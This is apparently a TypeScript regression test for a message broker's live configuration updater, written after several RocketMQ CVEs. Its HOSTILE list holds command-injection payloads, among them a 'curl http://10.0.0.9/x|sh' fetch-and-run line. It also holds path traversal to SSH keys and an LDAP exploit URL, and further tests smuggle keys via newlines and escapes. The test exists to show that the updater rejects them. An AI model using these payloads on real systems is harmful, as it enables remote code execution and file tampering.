/**
 * The lessons of CVE-2023-33246 (a command in filterServerNums and rocketmqHome), CVE-2023-37582 (configStorePath, then a
 * configuration written to it) and CVE-2024-23321 (what a configuration shows): every key of every table, those that do
 * nothing here included, is sent each value that was used or could be. What counts is what happens, not what list a key is on.
 */
import { describe, expect, test } from "bun:test";
import { brokerOptions } from "../../core/broker/options.ts";
import { type OptionTable, settingsWith } from "../../core/config.ts";
import { LiveConfiguration } from "../../core/config_update.ts";
import { namesrvOptions } from "../../core/namesrv/options.ts";
import { parseProperties } from "../../core/properties.ts";
import { fakeFiles, fakeSystem, keptLog } from "./fakes.ts";

const PATH = "/etc/server.conf";
const SECRET = "a-secret-nobody-sees";
const HOSTILE = [
  "/tmp/x; touch /tmp/pwned;",
  "-c $@|sh . echo curl http://10.0.0.9/x|sh;",
  "$(id)",
  "`id`",
  "/etc/cron.d/x",
  "../../../../root/.ssh/authorized_keys",
  "file:///etc/passwd",
  "C:\\Windows\\System32\\x",
  "org.apache.commons.fileupload.disk.DiskFileItem",
  "ldap://10.0.0.9/Exploit",
  "http://10.0.0.9:8080/",
  "10.0.0.9:9876",
  "0.0.0.0",
  "a\\u0001b\\u0002c",
  "a\\nrocketmqHome=/tmp/x",
  "__proto__",
];
const TABLES: Readonly<Record<string, OptionTable>> = { broker: brokerOptions, nameserver: namesrvOptions };

function server(table: OptionTable) {
  const input = table === brokerOptions ? { brokerName: "a", brokerConfigPath: PATH } : {};
  const settings = settingsWith(table, input as never, fakeSystem()) as Record<string, unknown>;
  const files = fakeFiles();
  const live = new LiveConfiguration({
    table,
    settings: settings as never,
    files,
    log: keptLog(),
    path: () => PATH,
    blackList: () => "",
  });
  return { settings, files, live };
}

describe.each(Object.entries(TABLES))("whatever is sent to the configuration of the %s", (_name, table) => {
  test("no text of a stranger becomes a value but of the region's name, and nothing is written but the server's own file", () => {
    const taken = new Set<string>();
    for (const key of Object.keys(table)) {
      for (const value of HOSTILE) {
        const { settings, files, live } = server(table);
        const before = JSON.stringify(settings);
        const outcome = live.update(`${key}=${value}`, "10.0.0.9:40000");
        if (outcome.ok) {
          taken.add(key);
          expect([...files.content.keys()]).toEqual([PATH]);
          expect([...parseProperties(files.content.get(PATH) ?? "").keys()]).toEqual([key]);
        } else {
          expect([key, value, JSON.stringify(settings)]).toEqual([key, value, before]);
          expect([key, value, [...files.content.keys()]]).toEqual([key, value, []]);
        }
      }
    }
    // A label, which is sent back to producers (MSG_REGION) and read nowhere.
    expect([...taken]).toEqual(table === brokerOptions ? ["regionId"] : []);
  });

  test("a good key beside it does not carry it in", () => {
    const good = Object.entries(table).find(
      ([, option]) => option.acted && option.change === "live" && option.kind === "boolean",
    )?.[0];
    if (good === undefined) return;
    for (const bad of [
      "rocketmqHome",
      "brokerConfigPath",
      "configStorePath",
      "kvConfigPath",
      "filterServerNums",
      "storePathRootDir",
    ]) {
      const { settings, files, live } = server(table);
      const before = JSON.stringify(settings);
      for (const text of [
        `${good}=false\n${bad}=/tmp/x`,
        `${bad}=/tmp/x\n${good}=true`,
        `${good}=true\\\n${bad}=/tmp/x`,
        `${good}=true\r${bad}=/tmp/x`,
        `${bad} /tmp/x`,
        `${bad}:/tmp/x`,
        `${bad}\\u0020=/tmp/x`,
        `${Array.from(bad, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")}=/tmp/x`,
      ]) {
        expect([text, live.update(text, "10.0.0.9:40000").ok]).toEqual([text, false]);
      }
      expect(JSON.stringify(settings)).toBe(before);
      expect([...files.content.keys()]).toEqual([]);
    }
  });

  test("names that every object has are no keys", () => {
    for (const key of ["__proto__", "constructor", "toString", "hasOwnProperty", ""]) {
      expect(server(table).live.update(`${key}=1`, "10.0.0.9:40000").ok).toBe(false);
    }
  });

  test("secrets are in nothing that is shown", () => {
    const secrets = Object.entries(table).filter(
      ([key, option]) => option.kind === "string" && /secret|password|credential|initAuth/i.test(key),
    );
    const input = Object.fromEntries(secrets.map(([key]) => [key, SECRET]));
    const settings = settingsWith(
      table,
      { ...(table === brokerOptions ? { brokerName: "a" } : {}), ...input } as never,
      fakeSystem(),
    );
    const live = new LiveConfiguration({
      table,
      settings: settings as never,
      files: fakeFiles(),
      log: keptLog(),
      path: () => PATH,
      blackList: () => "",
    });
    expect(secrets.length).toBeGreaterThan(0);
    expect(live.print()).not.toContain(SECRET);
  });
});
